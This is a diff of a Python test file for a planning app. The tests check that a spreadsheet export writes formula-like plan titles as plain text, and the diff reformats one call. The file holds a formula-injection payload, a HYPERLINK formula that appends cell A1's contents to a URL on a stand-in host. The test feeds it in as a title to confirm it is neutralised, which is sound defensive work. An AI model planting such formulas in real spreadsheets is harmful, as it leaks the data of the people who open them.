@@ -1,5 +1,6 @@
 """Issue 13, findings 4 and 5 for plans: the progress spreadsheet writes formula-like text as text, and an uploaded
 plan file over the limits is refused with a Vietnamese problem before it is parsed."""
+
 import datetime
 import io
 import zipfile
@@ -15,8 +16,14 @@ MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'
 
 
 def test_a_plan_title_that_looks_like_a_formula_is_text_in_the_progress_spreadsheet(db):
-    plan = plans.create_plan(key="ke-hoach-thu", title=MALICIOUS, issuing_body="+UBND tỉnh", issued_year=2026,
-                             period_start=datetime.date(2026, 1, 1), period_end=datetime.date(2026, 12, 31))
+    plan = plans.create_plan(
+        key="ke-hoach-thu",
+        title=MALICIOUS,
+        issuing_body="+UBND tỉnh",
+        issued_year=2026,
+        period_start=datetime.date(2026, 1, 1),
+        period_end=datetime.date(2026, 12, 31),
+    )
     buffer = io.BytesIO()
     write_board_xlsx(buffer, plan, year=2026, today=datetime.date(2026, 6, 1))
     with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
